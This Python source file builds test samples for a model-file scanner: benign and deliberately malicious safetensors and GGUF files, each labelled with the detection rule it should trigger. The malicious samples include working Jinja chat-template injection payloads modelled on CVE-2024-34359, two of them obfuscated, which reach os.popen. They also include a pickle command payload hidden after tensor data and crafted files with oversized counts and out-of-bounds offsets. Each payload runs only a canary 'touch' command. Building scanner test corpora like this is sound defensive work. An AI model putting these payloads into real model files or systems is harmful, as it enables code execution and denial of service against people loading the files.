"""safetensors and GGUF samples: writers for both formats, benign files and crafted attacks.

Everything is written by the small writers below (the reference libraries are used only for
the optional ``needs=`` samples), so the required samples build without ``safetensors`` or
``gguf`` installed. The benign chat templates follow the structure of the templates that
Llama 3.1, Qwen 2.5 (ChatML), Mistral, Gemma, Phi-3 and DeepSeek-R1 ship with, including the
constructs a naive scanner flags (``namespace()``, ``raise_exception``, ``loop``,
``selectattr``, slicing, ``{% generation %}``).
"""

from __future__ import annotations

import json
import shlex
import struct
from collections.abc import Sequence
from pathlib import Path
from typing import Any

from corpus import Sample

# -- safetensors ------------------------------------------------------------------------------

#: dtype -> bits per element, as the format defines them.
ST_BITS = {"BOOL": 8, "U8": 8, "I8": 8, "F8_E4M3": 8, "F8_E5M2": 8, "F4": 4, "F6_E2M3": 6,
           "I16": 16, "F16": 16, "BF16": 16, "I32": 32, "F32": 32, "F64": 64, "I64": 64}


def st_raw(header: bytes | str | dict[str, Any], data: bytes = b"", *,
           declared: int | None = None, pad: bool = True) -> bytes:
    """A safetensors file from a header (dict, JSON text or raw bytes) and a data section.

    ``declared`` overrides the length prefix; ``pad`` adds the trailing spaces the reference
    writer uses to align the data section to 8 bytes.
    """
    if isinstance(header, dict):
        header = json.dumps(header, separators=(",", ":"))
    raw = header.encode() if isinstance(header, str) else header
    if pad:
        raw += b" " * (-len(raw) % 8)
    n = len(raw) if declared is None else declared
    return struct.pack("<Q", n) + raw + data


def st_file(tensors: Sequence[tuple[str, str, list[int]]],
            metadata: dict[str, str] | None = None) -> bytes:
    """A well-formed safetensors file; tensor bytes are a repeating pattern."""
    header: dict[str, Any] = {}
    if metadata is not None:
        header["__metadata__"] = metadata
    offset, chunks = 0, []
    for name, dtype, shape in tensors:
        elements = 1
        for d in shape:
            elements *= d
        nbytes = elements * ST_BITS[dtype] // 8
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [offset, offset + nbytes]}
        chunks.append(bytes((offset + i) % 251 for i in range(nbytes)))
        offset += nbytes
    return st_raw(header, b"".join(chunks))


# -- GGUF -------------------------------------------------------------------------------------

U8, I8, U16, I16, U32, I32, F32, BOOL, STRING, ARRAY, U64, I64, F64 = range(13)
_PACK = {U8: "B", I8: "b", U16: "H", I16: "h", U32: "I", I32: "i", F32: "f", BOOL: "?",
         U64: "Q", I64: "q", F64: "d"}
#: ggml type id -> (elements per block, bytes per block), for the types the samples use.
GGML = {0: (1, 4), 1: (1, 2), 8: (32, 34), 12: (256, 144), 30: (1, 2)}


class Gguf:
    """A small GGUF writer that can also write what real writers never would.

    Args:
        version: 1, 2 or 3 (version 1 has 32-bit counts and lengths).
        order: ``"<"`` little-endian or ``">"`` big-endian.
        alignment: Data alignment (also written as ``general.alignment`` when not 32).
    """

    def __init__(self, *, version: int = 3, order: str = "<", alignment: int = 32) -> None:
        self.version, self.order, self.alignment = version, order, alignment
        self.kv: list[tuple[str, int, Any]] = []
        self.tensors: list[tuple[str, list[int], int, bytes, int | None]] = []
        if alignment != 32:
            self.kv.append(("general.alignment", U32, alignment))

    def add(self, key: str, vtype: int, value: Any) -> Gguf:
        """Add a metadata pair; arrays are ``(element_type, [values])``."""
        self.kv.append((key, vtype, value))
        return self

    def tensor(self, name: str, dims: list[int], ggml_type: int = 0, *,
               offset: int | None = None, data: bytes | None = None) -> Gguf:
        """Add a tensor; its data is generated unless given, its offset computed unless given."""
        if data is None:
            block, size = GGML[ggml_type]
            elements = 1
            for d in dims:
                elements *= d
            data = bytes(i % 253 for i in range(elements // block * size))
        self.tensors.append((name, dims, ggml_type, data, offset))
        return self

    def _count(self, n: int) -> bytes:
        return struct.pack(self.order + ("Q" if self.version >= 2 else "I"), n)

    def _str(self, text: str | bytes) -> bytes:
        raw = text.encode() if isinstance(text, str) else text
        return self._count(len(raw)) + raw

    def _value(self, vtype: int, value: Any) -> bytes:
        if vtype == STRING:
            return self._str(value)
        if vtype == ARRAY:
            etype, items = value
            body = b"".join(self._value(etype, v) for v in items)
            return struct.pack(self.order + "I", etype) + self._count(len(items)) + body
        return struct.pack(self.order + _PACK[vtype], value)

    def to_bytes(self, *, n_kv: int | None = None, n_tensors: int | None = None,
                 trailing: bytes = b"") -> bytes:
        """The file; ``n_kv`` and ``n_tensors`` override the declared counts."""
        out = [b"GGUF", struct.pack(self.order + "I", self.version),
               self._count(len(self.tensors) if n_tensors is None else n_tensors),
               self._count(len(self.kv) if n_kv is None else n_kv)]
        for key, vtype, value in self.kv:
            out += [self._str(key), struct.pack(self.order + "I", vtype),
                    self._value(vtype, value)]
        data, offset = [], 0
        for name, dims, gtype, blob, fixed in self.tensors:
            at = offset if fixed is None else fixed
            dim_code = "Q" if self.version >= 2 else "I"
            out += [self._str(name), struct.pack(self.order + "I", len(dims)),
                    b"".join(struct.pack(self.order + dim_code, d) for d in dims),
                    struct.pack(self.order + "I", gtype), struct.pack(self.order + "Q", at)]
            padded = blob + b"\0" * (-len(blob) % self.alignment)
            data.append(padded)
            offset += len(padded)
        head = b"".join(out)
        if self.tensors:
            head += b"\0" * (-len(head) % self.alignment)
        return head + b"".join(data) + trailing


def llama_like(template: str | None = None, *, version: int = 3, order: str = "<") -> Gguf:
    """A small Llama-shaped model: realistic metadata, a tokenizer, F32 and Q8_0 tensors."""
    tokens = ["<unk>", "<s>", "</s>", *[f"tok{i}" for i in range(61)]]
    g = Gguf(version=version, order=order)
    g.add("general.architecture", STRING, "llama").add("general.name", STRING, "tiny-llama")
    g.add("general.file_type", U32, 7).add("llama.context_length", U32, 2048)
    g.add("llama.embedding_length", U32, 64).add("llama.block_count", U32, 1)
    g.add("llama.attention.head_count", U32, 4).add("llama.rope.freq_base", F32, 10000.0)
    g.add("tokenizer.ggml.model", STRING, "llama")
    g.add("tokenizer.ggml.tokens", ARRAY, (STRING, tokens))
    g.add("tokenizer.ggml.scores", ARRAY, (F32, [0.0] * len(tokens)))
    g.add("tokenizer.ggml.token_type", ARRAY, (I32, [2, 3, 3] + [1] * 61))
    g.add("tokenizer.ggml.bos_token_id", U32, 1).add("tokenizer.ggml.eos_token_id", U32, 2)
    g.add("tokenizer.ggml.add_bos_token", BOOL, True)
    if template is not None:
        g.add("tokenizer.chat_template", STRING, template)
    g.tensor("token_embd.weight", [64, 64], 8).tensor("blk.0.attn_norm.weight", [64], 0)
    g.tensor("blk.0.attn_q.weight", [64, 64], 8).tensor("output_norm.weight", [64], 0)
    return g


# -- chat templates ---------------------------------------------------------------------------

LLAMA3_TEMPLATE = """{{- bos_token }}
{%- if custom_tools is defined %}{%- set tools = custom_tools %}{%- endif %}
{%- if not tools_in_user_message is defined %}{%- set tools_in_user_message = true %}{%- endif %}
{%- if not date_string is defined %}
    {%- if strftime_now is defined %}{%- set date_string = strftime_now("%d %b %Y") %}
    {%- else %}{%- set date_string = "26 Jul 2024" %}{%- endif %}
{%- endif %}
{%- if not tools is defined %}{%- set tools = none %}{%- endif %}
{%- if messages[0]['role'] == 'system' %}
    {%- set system_message = messages[0]['content']|trim %}
    {%- set messages = messages[1:] %}
{%- else %}
    {%- set system_message = "" %}
{%- endif %}
{{- "<|start_header_id|>system<|end_header_id|>\\n\\n" }}
{%- if tools is not none %}{{- "Environment: ipython\\n" }}{%- endif %}
{{- "Cutting Knowledge Date: December 2023\\n" }}
{{- "Today Date: " + date_string + "\\n\\n" }}
{%- if tools is not none and not tools_in_user_message %}
    {{- "You have access to the following functions. Respond with JSON for a function call." }}
    {%- for t in tools %}{{- t | tojson(indent=4) }}{{- "\\n\\n" }}{%- endfor %}
{%- endif %}
{{- system_message }}
{{- "<|eot_id|>" }}
{%- for message in messages %}
    {%- if not (message.role == 'ipython' or message.role == 'tool' or 'tool_calls' in message) %}
        {{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n' + message['content'] | trim + '<|eot_id|>' }}
    {%- elif 'tool_calls' in message %}
        {%- if not message.tool_calls|length == 1 %}
            {{- raise_exception("This model only supports single tool-calls at once!") }}
        {%- endif %}
        {%- set tool_call = message.tool_calls[0].function %}
        {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' -}}
        {{- '{"name": "' + tool_call.name + '", "parameters": ' }}
        {{- tool_call.arguments | tojson }}
        {{- "}<|eot_id|>" }}
    {%- elif message.role == "tool" or message.role == "ipython" %}
        {{- "<|start_header_id|>ipython<|end_header_id|>\\n\\n" }}
        {%- if message.content is mapping or message.content is iterable %}
            {{- message.content | tojson }}
        {%- else %}
            {{- message.content }}
        {%- endif %}
        {{- "<|eot_id|>" }}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}{{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{%- endif %}
"""

CHATML_TEMPLATE = """{%- if tools %}
    {{- '<|im_start|>system\\n' }}
    {%- if messages[0]['role'] == 'system' %}{{- messages[0]['content'] }}
    {%- else %}{{- 'You are a helpful assistant.' }}{%- endif %}
    {{- "\\n\\n# Tools\\n\\nYou may call one or more functions.\\n<tools>" }}
    {%- for tool in tools %}{{- "\\n" }}{{- tool | tojson }}{%- endfor %}
    {{- "\\n</tools>\\n\\nReturn calls as <tool_call>{\\"name\\": ..., \\"arguments\\": ...}</tool_call><|im_end|>\\n" }}
{%- else %}
    {%- if messages[0]['role'] == 'system' %}
        {{- '<|im_start|>system\\n' + messages[0]['content'] + '<|im_end|>\\n' }}
    {%- else %}
        {{- '<|im_start|>system\\nYou are a helpful assistant.<|im_end|>\\n' }}
    {%- endif %}
{%- endif %}
{%- set ns = namespace(multi_step_tool=true, last_query_index=messages|length - 1) %}
{%- for message in messages[::-1] %}
    {%- set index = (messages|length - 1) - loop.index0 %}
    {%- if ns.multi_step_tool and message.role == "user" and not (message.content.startswith('<tool_response>') and message.content.endswith('</tool_response>')) %}
        {%- set ns.multi_step_tool = false %}
        {%- set ns.last_query_index = index %}
    {%- endif %}
{%- endfor %}
{%- for message in messages %}
    {%- if (message.role == "user") or (message.role == "system" and not loop.first) or (message.role == "assistant" and not message.tool_calls) %}
        {{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>' + '\\n' }}
    {%- elif message.role == "assistant" %}
        {{- '<|im_start|>' + message.role }}
        {%- if message.content %}{{- '\\n' + message.content }}{%- endif %}
        {%- for tool_call in message.tool_calls %}
            {%- if tool_call.function is defined %}{%- set tool_call = tool_call.function %}{%- endif %}
            {{- '\\n<tool_call>\\n{"name": "' }}{{- tool_call.name }}{{- '", "arguments": ' }}
            {%- if tool_call.arguments is string %}{{- tool_call.arguments }}
            {%- else %}{{- tool_call.arguments | tojson }}{%- endif %}
            {{- '}\\n</tool_call>' }}
        {%- endfor %}
        {{- '<|im_end|>\\n' }}
    {%- elif message.role == "tool" %}
        {%- if (loop.index0 == 0) or (messages[loop.index0 - 1].role != "tool") %}{{- '<|im_start|>user' }}{%- endif %}
        {{- '\\n<tool_response>\\n' }}{{- message.content }}{{- '\\n</tool_response>' }}
        {%- if loop.last or (messages[loop.index0 + 1].role != "tool") %}{{- '<|im_end|>\\n' }}{%- endif %}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}
"""

MISTRAL_TEMPLATE = """{%- if messages[0]["role"] == "system" %}
    {%- set system_message = messages[0]["content"] %}
    {%- set loop_messages = messages[1:] %}
{%- else %}
    {%- set loop_messages = messages %}
{%- endif %}
{%- if not tools is defined %}{%- set tools = none %}{%- endif %}
{%- set user_messages = loop_messages | selectattr("role", "equalto", "user") | list %}
{%- set ns = namespace() %}
{%- set ns.index = 0 %}
{%- for message in loop_messages %}
    {%- if not (message.role == "tool" or (message.tool_calls is defined and message.tool_calls is not none)) %}
        {%- if (message["role"] == "user") != (ns.index % 2 == 0) %}
            {{- raise_exception("After the optional system message, conversation roles must alternate user/assistant/user/assistant/...") }}
        {%- endif %}
        {%- set ns.index = ns.index + 1 %}
    {%- endif %}
{%- endfor %}
{{- bos_token }}
{%- for message in loop_messages %}
    {%- if message["role"] == "user" %}
        {%- if tools is not none and (message == user_messages[-1]) %}
            {{- "[AVAILABLE_TOOLS] [" }}
            {%- for tool in tools %}{{- tool | tojson }}{%- if not loop.last %}{{- ", " }}{%- endif %}{%- endfor %}
            {{- "][/AVAILABLE_TOOLS]" }}
        {%- endif %}
        {%- if loop.last and system_message is defined %}
            {{- "[INST] " + system_message + "\\n\\n" + message["content"] + "[/INST]" }}
        {%- else %}
            {{- "[INST] " + message["content"] + "[/INST]" }}
        {%- endif %}
    {%- elif message["role"] == "assistant" %}
        {{- " " + message["content"] | trim + eos_token }}
    {%- else %}
        {{- raise_exception("Only user and assistant roles are supported, with the exception of an initial optional system message!") }}
    {%- endif %}
{%- endfor %}
"""

GEMMA_TEMPLATE = (
    "{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('System role "
    "not supported') }}{% endif %}{% for message in messages %}{% if (message['role'] == 'user')"
    " != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate "
    "user/assistant/user/assistant/...') }}{% endif %}{% if (message['role'] == 'assistant') %}"
    "{% set role = 'model' %}{% else %}{% set role = message['role'] %}{% endif %}"
    "{{ '<start_of_turn>' + role + '\\n' + message['content'] | trim + '<end_of_turn>\\n' }}"
    "{% endfor %}{% if add_generation_prompt %}{{'<start_of_turn>model\\n'}}{% endif %}"
)

PHI3_TEMPLATE = (
    "{% for message in messages %}{% if message['role'] == 'system' %}{{'<|system|>\\n' + "
    "message['content'] + '<|end|>\\n'}}{% elif message['role'] == 'user' %}{{'<|user|>\\n' + "
    "message['content'] + '<|end|>\\n'}}{% elif message['role'] == 'assistant' %}"
    "{{'<|assistant|>\\n' + message['content'] + '<|end|>\\n'}}{% endif %}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|assistant|>\\n' }}{% else %}{{ eos_token }}{% endif %}"
)

DEEPSEEK_R1_TEMPLATE = """{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false %}{% endif %}
{% set ns = namespace(is_first=false, is_tool=false, system_prompt='') %}
{%- for message in messages %}{%- if message['role'] == 'system' %}{% set ns.system_prompt = message['content'] %}{%- endif %}{%- endfor %}
{{ bos_token }}{{ ns.system_prompt }}
{%- for message in messages %}
    {%- if message['role'] == 'user' %}{%- set ns.is_tool = false -%}{{ '<｜User｜>' + message['content'] }}{%- endif %}
    {%- if message['role'] == 'assistant' and message['content'] is not none %}
        {%- set content = message['content'] %}
        {%- if '</think>' in content %}{% set content = content.split('</think>')[-1] %}{% endif %}
        {{ '<｜Assistant｜>' + content + '<｜end▁of▁sentence｜>' }}
    {%- endif %}
{%- endfor %}
{% if add_generation_prompt and not ns.is_tool %}{{ '<｜Assistant｜><think>\\n' }}{% endif %}"""

#: A training template with Hugging Face's {% generation %} tag and loop controls.
TRAINING_TEMPLATE = (
    "{% for message in messages %}{% if message['role'] == 'assistant' %}{% generation %}"
    "{{ message['content'] + eos_token }}{% endgeneration %}{% else %}"
    "{{ '<|' + message['role'] + '|>' + message['content'] }}{% endif %}"
    "{% if loop.index > 64 %}{% break %}{% endif %}{% endfor %}"
)

BENIGN_TEMPLATES = {
    "llama3": LLAMA3_TEMPLATE, "chatml-qwen": CHATML_TEMPLATE, "mistral": MISTRAL_TEMPLATE,
    "gemma": GEMMA_TEMPLATE, "phi3": PHI3_TEMPLATE, "deepseek-r1": DEEPSEEK_R1_TEMPLATE,
    "training": TRAINING_TEMPLATE,
}


def ssti_cve_2024_34359(canary: Path) -> str:
    """The payload shape of CVE-2024-34359: walk to a class whose module has __builtins__."""
    cmd = f"touch {shlex.quote(str(canary))}"
    return ("{% for x in ().__class__.__base__.__subclasses__() %}"
            "{% if 'warning' in x.__name__ %}"
            "{{ x()._module.__builtins__['__import__']('os').popen(" + json.dumps(cmd) + ").read() }}"
            "{% endif %}{% endfor %}" + CHATML_TEMPLATE)


def ssti_attr_join(canary: Path) -> str:
    """No dunder in the text: names assembled with |join and ~, looked up with |attr."""
    cmd = f"touch {shlex.quote(str(canary))}"
    return ("{% set u = ['_', '_']|join %}"
            "{% set g = lipsum|attr(u ~ 'glo' ~ 'bals' ~ u) %}"
            "{{ (g|attr(u ~ 'getitem' ~ u))('os')|attr('popen')(" + json.dumps(cmd) + ") }}"
            + PHI3_TEMPLATE)


def ssti_computed_attr(canary: Path) -> str:
    """The attribute names arrive with the user's messages: nothing suspicious is constant."""
    return ("{% set x = namespace(o=lipsum) %}"
            "{% for m in messages if m.role == 'tool' %}"
            "{% set x.o = x.o|attr(m.name) %}{% endfor %}"
            + GEMMA_TEMPLATE)


# -- builders ---------------------------------------------------------------------------------


def _write(out_dir: Path, name: str, blob: bytes) -> Path:
    out_dir.mkdir(parents=True, exist_ok=True)
    path = out_dir / name
    path.write_bytes(blob)
    return path


def _st_benign(out_dir: Path, canary: Path) -> Path:
    blob = st_file([("embed.weight", "F32", [16, 8]), ("norm.bias", "BF16", [8]),
                    ("step", "I64", []), ("mask", "BOOL", [3]), ("q4", "F4", [4, 6]),
                    ("fp8", "F8_E4M3", [5]), ("f6", "F6_E2M3", [4])],
                   metadata={"format": "pt", "framework": "phalanx-corpus"})
    return _write(out_dir, "model.safetensors", blob)


def _st_benign_empty(out_dir: Path, canary: Path) -> Path:
    blob = st_file([("a", "F32", [0, 4]), ("b", "F16", [0]), ("c", "F32", [2])])
    return _write(out_dir, "empty-tensors.safetensors", blob)


def _st_library(out_dir: Path, canary: Path) -> Path:
    import numpy as np
    from safetensors.numpy import save_file

    path = out_dir / "library.safetensors"
    out_dir.mkdir(parents=True, exist_ok=True)
    save_file({"w": np.arange(24, dtype=np.float32).reshape(4, 6),
               "b": np.zeros(6, dtype=np.float16), "i": np.arange(3, dtype=np.int64)},
              str(path), metadata={"format": "np"})
    return path


def _st_overlap(out_dir: Path, canary: Path) -> Path:
    header = {"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
              "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]}}
    return _write(out_dir, "overlap.safetensors", st_raw(header, bytes(24)))


def _st_beyond(out_dir: Path, canary: Path) -> Path:
    header = {"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
              "b": {"dtype": "F32", "shape": [2**28], "data_offsets": [16, 16 + 2**30]}}
    return _write(out_dir, "beyond.safetensors", st_raw(header, bytes(16)))


def _st_huge_header(out_dir: Path, canary: Path) -> Path:
    declared = 200 * 1024 * 1024  # over the 100 MiB scan limit and the reference's 100 MB
    path = _write(out_dir, "huge-header.safetensors",
                  st_raw('{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}',
                         declared=declared, pad=False))
    with path.open("r+b") as fh:  # sparse: the file is as long as it claims, costs no disk
        fh.truncate(8 + declared)
    return path


def _st_duplicate(out_dir: Path, canary: Path) -> Path:
    text = ('{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},'
            '"w":{"dtype":"F32","shape":[2],"data_offsets":[8,16]}}')
    return _write(out_dir, "duplicate.safetensors", st_raw(text, bytes(16)))


def _st_hidden_pickle(out_dir: Path, canary: Path) -> Path:
    cmd = f"touch {shlex.quote(str(canary))}".encode()
    payload = b"cos\nsystem\n(V" + cmd + b"\ntR."
    blob = st_file([("w", "F32", [4])]) + payload
    return _write(out_dir, "hidden-pickle.safetensors", blob)


def _gguf(name: str, g: Gguf, **kw: Any) -> Any:
    def build(out_dir: Path, canary: Path) -> Path:
        return _write(out_dir, name, g.to_bytes(**kw))
    return build


def _gguf_template(name: str, make: Any, *, key: str = "tokenizer.chat_template",
                   order: str = "<") -> Any:
    def build(out_dir: Path, canary: Path) -> Path:
        g = llama_like(CHATML_TEMPLATE if key != "tokenizer.chat_template" else None,
                       order=order)
        g.add(key, STRING, make(canary))
        return _write(out_dir, name, g.to_bytes())
    return build


def _gguf_duplicate_template(out_dir: Path, canary: Path) -> Path:
    g = llama_like(LLAMA3_TEMPLATE)
    g.add("tokenizer.chat_template", STRING, ssti_cve_2024_34359(canary))
    return _write(out_dir, "duplicate-template.gguf", g.to_bytes())


def _gguf_named(out_dir: Path, canary: Path) -> Path:
    g = llama_like(GEMMA_TEMPLATE)
    g.add("tokenizer.chat_template.tool_use", STRING, MISTRAL_TEMPLATE)
    g.add("tokenizer.chat_template.rag", STRING, DEEPSEEK_R1_TEMPLATE)
    return _write(out_dir, "named-templates.gguf", g.to_bytes())


def _gguf_library(out_dir: Path, canary: Path) -> Path:
    import numpy as np
    from gguf import GGUFWriter

    out_dir.mkdir(parents=True, exist_ok=True)
    path = out_dir / "library.gguf"
    writer = GGUFWriter(str(path), "llama")
    writer.add_name("tiny")
    writer.add_context_length(128)
    writer.add_chat_template(CHATML_TEMPLATE)
    writer.add_tensor("token_embd.weight", np.ones((8, 32), dtype=np.float32))
    writer.add_tensor("output_norm.weight", np.ones(32, dtype=np.float16))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    return path


def _kv_count_dos() -> Gguf:
    return llama_like(PHI3_TEMPLATE)


def _array_count_dos(out_dir: Path, canary: Path) -> Path:
    g = llama_like(PHI3_TEMPLATE)
    blob = g.to_bytes()
    # Replace the token_type array's element count (64) with 2**61.
    needle = b"tokenizer.ggml.token_type" + struct.pack("<II", ARRAY, I32) + struct.pack("<Q", 64)
    at = blob.index(needle) + len(needle) - 8
    blob = blob[:at] + struct.pack("<Q", 2**61) + blob[at + 8:]
    return _write(out_dir, "array-count.gguf", blob)


def _dims_overflow() -> Gguf:
    g = llama_like(PHI3_TEMPLATE)
    g.tensor("blk.0.ffn_up.weight", [2**32, 2**32], 0, data=b"\0" * 64)
    return g


def _offset_oob() -> Gguf:
    g = Gguf()
    g.add("general.architecture", STRING, "llama").add("tokenizer.chat_template", STRING,
                                                      PHI3_TEMPLATE)
    g.tensor("token_embd.weight", [32, 4], 0)
    g.tensor("output.weight", [32, 4], 0, offset=1 << 40)
    return g


SAMPLES: list[Sample] = [
    # -- safetensors, benign
    Sample("safetensors-benign-mixed-dtypes", "safetensors", False, _st_benign,
           "well-formed file with F32/BF16/I64/BOOL and sub-byte F4/F6/F8 tensors, metadata"),
    Sample("safetensors-benign-empty-tensors", "safetensors", False, _st_benign_empty,
           "zero-element tensors sharing an offset (legal) and a scalar"),
    Sample("safetensors-benign-library", "safetensors", False, _st_library,
           "written by the safetensors library", needs=("safetensors", "numpy")),
    # -- safetensors, malicious
    Sample("safetensors-overlapping-offsets", "safetensors", True, _st_overlap,
           "two tensors alias the same bytes", rule="overlapping-tensors"),
    Sample("safetensors-offsets-beyond-file", "safetensors", True, _st_beyond,
           "a tensor's data_offsets point 1 GiB past the end (out-of-bounds read)",
           rule="offsets-out-of-bounds"),
    Sample("safetensors-huge-header", "safetensors", True, _st_huge_header,
           "200 MiB declared header (memory exhaustion; sparse file)",
           min_severity="high", rule="header-too-large"),
    Sample("safetensors-duplicate-keys", "safetensors", True, _st_duplicate,
           "the same tensor name twice with different offsets (parser differential)",
           rule="duplicate-key"),
    Sample("safetensors-hidden-pickle", "safetensors", True, _st_hidden_pickle,
           "a pickle payload appended after the last tensor", rule="unused-bytes"),
    # -- GGUF, benign
    Sample("gguf-benign-chatml", "gguf", False, _gguf("chatml.gguf", llama_like(CHATML_TEMPLATE)),
           "Llama-shaped model with a ChatML (Qwen 2.5) template using namespace()"),
    Sample("gguf-benign-llama3", "gguf", False, _gguf("llama3.gguf", llama_like(LLAMA3_TEMPLATE)),
           "Llama 3.1-style tool-calling template with raise_exception and tojson"),
    Sample("gguf-benign-named-templates", "gguf", False, _gguf_named,
           "Gemma default template plus tokenizer.chat_template.tool_use/.rag variants"),
    Sample("gguf-benign-big-endian-v2", "gguf", False,
           _gguf("big-endian.gguf", llama_like(TRAINING_TEMPLATE, version=2, order=">")),
           "big-endian GGUF v2 with a {% generation %} training template"),
    Sample("gguf-benign-library", "gguf", False, _gguf_library,
           "written by gguf-py's GGUFWriter", needs=("gguf", "numpy")),
    # -- GGUF, malicious
    Sample("gguf-ssti-cve-2024-34359", "gguf", True,
           _gguf_template("ssti.gguf", ssti_cve_2024_34359),
           "chat template walks __subclasses__ to __builtins__ and calls os.popen",
           source="CVE-2024-34359", min_severity="critical", rule="chat-template-dunder"),
    Sample("gguf-ssti-attr-join", "gguf", True, _gguf_template("attr-join.gguf", ssti_attr_join),
           "dunder names assembled with |join and ~ and looked up with |attr",
           source="CVE-2024-34359", min_severity="critical", rule="chat-template-dunder"),
    Sample("gguf-ssti-computed-attr", "gguf", True,
           _gguf_template("computed-attr.gguf", ssti_computed_attr),
           "|attr with names taken from the request's messages (no constant dunder at all)",
           source="CVE-2024-34359", min_severity="high", rule="chat-template-obfuscation"),
    Sample("gguf-ssti-named-template", "gguf", True,
           _gguf_template("named-ssti.gguf", ssti_cve_2024_34359,
                          key="tokenizer.chat_template.tool_use"),
           "benign default template, payload in the tool_use variant",
           source="CVE-2024-34359", min_severity="critical", rule="chat-template-dunder"),
    Sample("gguf-ssti-duplicate-key", "gguf", True, _gguf_duplicate_template,
           "tokenizer.chat_template twice: benign first, payload second (dict readers keep the "
           "last)",
           source="CVE-2024-34359", min_severity="critical", rule="chat-template-dunder"),
    Sample("gguf-ssti-big-endian", "gguf", True,
           _gguf_template("ssti-be.gguf", ssti_cve_2024_34359, order=">"),
           "the CVE-2024-34359 payload in a big-endian file",
           source="CVE-2024-34359", min_severity="critical", rule="chat-template-dunder"),
    Sample("gguf-metadata-count-dos", "gguf", True,
           _gguf("kv-count.gguf", _kv_count_dos(), n_kv=2**62),
           "metadata count 2**62 (allocation from an untrusted count)",
           source="CVE-2024-23605", min_severity="high", rule="oversized-count"),
    Sample("gguf-array-count-dos", "gguf", True, _array_count_dos,
           "metadata array declaring 2**61 elements", min_severity="high",
           rule="oversized-count"),
    Sample("gguf-tensor-dims-overflow", "gguf", True, _gguf("dims.gguf", _dims_overflow()),
           "tensor of 2**32 x 2**32 elements (size arithmetic overflows)",
           source="CVE-2024-21802", min_severity="high", rule="tensor-size-overflow"),
    Sample("gguf-tensor-offset-out-of-bounds", "gguf", True,
           _gguf("offset-oob.gguf", _offset_oob()),
           "tensor data offset 1 TiB past the end of the file", rule="tensor-out-of-bounds"),
]
